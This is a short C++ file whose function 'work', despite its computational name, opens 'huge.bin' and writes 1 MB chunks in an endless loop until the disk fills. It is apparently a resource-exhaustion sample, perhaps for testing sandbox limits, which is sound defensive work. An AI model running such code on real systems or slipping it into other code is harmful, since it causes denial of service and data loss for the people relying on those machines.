#include <cstdio>
#include <string>

long long work(long long n) {
    std::FILE* f = std::fopen("huge.bin", "wb");
    std::string chunk(1 << 20, '\0');
    for (;;) std::fwrite(chunk.data(), 1, chunk.size(), f);
    return n;
}
